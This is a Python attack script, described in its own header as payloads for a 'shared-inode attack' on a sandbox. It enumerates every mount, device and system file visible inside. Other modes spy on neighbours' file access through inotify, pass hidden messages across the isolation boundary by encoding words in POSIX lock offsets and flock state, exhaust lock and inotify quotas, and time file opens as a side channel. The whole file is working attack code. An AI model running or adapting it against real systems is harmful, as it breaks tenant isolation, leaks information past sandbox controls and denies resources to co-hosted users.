# The payloads of the shared-inode attack, on every mount, device and well-known file that a sandbox sees.
#   h3.py ids                    device and inode number of every place
#   h3.py watch SECONDS          inotify on every place; names what somebody else opened
#   h3.py touch                  opens and reads every place once (the neighbour's work)
#   h3.py send WORD SECONDS      POSIX locks that spell WORD, and an exclusive flock, on every place
#   h3.py hear                   reads the word, and says where flock is refused
#   h3.py hold COUNT SECONDS P…  COUNT locks on each P       h3.py marks COUNT SECONDS P…  COUNT inotify instances on each P
#   h3.py measure P…             median time of open+close
import ctypes, errno, fcntl, glob, os, stat, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
BASE = 1 << 40
def places():
    mounts = [l.split()[4] for l in open("/proc/self/mountinfo")]
    more = ["/.bellglass/guest", "/.bellglass", "/etc", "/etc/hosts", "/etc/hostname", "/etc/resolv.conf", "/etc/debian_version", "/etc/passwd",
            "/.dockerenv", "/run", "/run/.containerenv", "/usr/bin", "/usr/bin/cat", "/usr/bin/python3.11", "/usr/lib", "/proc/version", "/proc/uptime",
            "/proc/kcore", "/proc/keys", "/proc/sys/kernel/hostname", "/proc/sys/net/core/somaxconn", "/sys/devices/system/cpu/online",
            "/sys/kernel/uevent_seqnum", "/sys/kernel/mm/transparent_hugepage/enabled", "/sys/class/net", "/sys/fs/cgroup", "/proc/1", "/proc/1/cgroup"]
    more += glob.glob("/dev/*") + glob.glob("/dev/*/*") + glob.glob("/usr/lib/*/libc.so.6") + glob.glob("/sys/fs/cgroup/*/*")[:400] + glob.glob("/sys/fs/cgroup/*")
    seen, out = set(), []
    for p in mounts + more:
        r = os.path.realpath(p)
        if p.startswith("/dev/fd") or p.startswith("/dev/std") or r in seen or not os.path.exists(p): continue
        seen.add(r); out.append(r)
    return out
def opened(flagset=(os.O_RDWR, os.O_RDONLY)):
    for p in places():
        for f in flagset:
            try: yield p, os.open(p, f | os.O_NONBLOCK | os.O_NOCTTY), f == os.O_RDWR; break
            except OSError: pass
def lk(kind, start, length): return struct.pack("hhxxxxqqixxxx", kind, 0, start, length, 0)
mode = sys.argv[1]
if mode == "ids":
    for p in places():
        try: s = os.stat(p); print(p, "%d:%d/%d" % (os.major(s.st_dev), os.minor(s.st_dev), s.st_ino), "%o" % s.st_mode, s.st_uid)
        except OSError as e: print(p, errno.errorcode[e.errno])
elif mode == "watch":
    n = libc.inotify_init1(os.O_NONBLOCK); names = {}
    for p in places():
        w = libc.inotify_add_watch(n, p.encode(), 0xfff)
        if w > 0: names[w] = p
    def drain(keep):
        got = {}
        while True:
            try: b = os.read(n, 65536)
            except BlockingIOError: return got
            o = 0
            while o < len(b):
                w, m, c, l = struct.unpack_from("iIII", b, o); t = b[o+16:o+16+l].rstrip(b"\0").decode(); o += 16 + l
                k = names.get(w, "?") + ("|" + t if t else ""); got[k] = got.get(k, 0) + 1
    drain(0); print("watching", len(names), flush=True); end = time.time() + float(sys.argv[2]); got = {}
    while time.time() < end:
        time.sleep(.5)
        for k, v in drain(1).items(): got[k] = got.get(k, 0) + v
    for k in sorted(got): print("saw", k, got[k])
    print("events", sum(got.values()))
elif mode == "touch":
    n = 0
    for p, d, _ in opened((os.O_RDONLY,)):
        try: (os.listdir(d) if stat.S_ISDIR(os.fstat(d).st_mode) else os.read(d, 1)); n += 1
        except OSError: pass
        os.close(d)
    print("touched", n)
elif mode == "send":
    word = sys.argv[2].encode(); keep = []; posix = fl = 0
    for p, d, w in opened():
        keep.append(d)
        try:
            for i, c in enumerate(word): fcntl.fcntl(d, fcntl.F_SETLK, lk(fcntl.F_WRLCK if w else fcntl.F_RDLCK, BASE + i * 256 + c, 1))
            posix += 1
        except OSError as e: print("lock", p, errno.errorcode[e.errno])
        try: fcntl.flock(d, fcntl.LOCK_EX | fcntl.LOCK_NB); fl += 1
        except OSError: pass
    print("posix", posix, "flock", fl, flush=True); time.sleep(float(sys.argv[3]))
elif mode == "hear":
    tried = 0
    for p, d, w in opened((os.O_RDONLY,)):
        tried += 1; word = b""
        try:
            for i in range(64):
                k, _, s, _, _ = struct.unpack("hhxxxxqqixxxx", fcntl.fcntl(d, fcntl.F_GETLK, lk(fcntl.F_WRLCK, BASE + i * 256, 256)))
                if k == fcntl.F_UNLCK: break
                word += bytes([s - BASE - i * 256])
        except (OSError, ValueError): pass
        if word: print("heard", p, word.decode("latin1"))
        try: fcntl.flock(d, fcntl.LOCK_EX | fcntl.LOCK_NB); fcntl.flock(d, fcntl.LOCK_UN)
        except BlockingIOError: print("blocked", p)
        except OSError: pass
        os.close(d)
    print("tried", tried)
elif mode == "hold":
    keep = []
    for p in sys.argv[4:]:
        try: d = os.open(p, os.O_RDWR | os.O_NOCTTY); k = fcntl.F_WRLCK
        except OSError:
            try: d = os.open(p, os.O_RDONLY); k = fcntl.F_RDLCK
            except OSError as e: print(p, e); continue
        keep.append(d); n = 0
        try:
            for n in range(int(sys.argv[2])): fcntl.fcntl(d, fcntl.F_SETLK, lk(k, (1 << 50) - n * 4, 1))
        except OSError as e: print(p, "refused after", n, e)
        print("locks", p, n + 1)
    print("ready", flush=True); time.sleep(float(sys.argv[3]))
elif mode == "marks":
    n = 0
    for _ in range(int(sys.argv[2])):
        f = libc.inotify_init1(os.O_NONBLOCK)
        if f < 0: print("instances refused after", n, os.strerror(ctypes.get_errno())); break
        for p in sys.argv[4:]: libc.inotify_add_watch(f, p.encode(), 0xfff)
        n += 1
    print("instances", n, flush=True); time.sleep(float(sys.argv[3]))
elif mode == "measure":
    for p in sys.argv[2:]:
        t = []
        try:
            for _ in range(300):
                a = time.perf_counter_ns(); os.close(os.open(p, os.O_RDONLY | os.O_NOCTTY)); t.append(time.perf_counter_ns() - a)
            print(p, "%.1f us" % (sorted(t)[150] / 1000))
        except OSError as e: print(p, e)
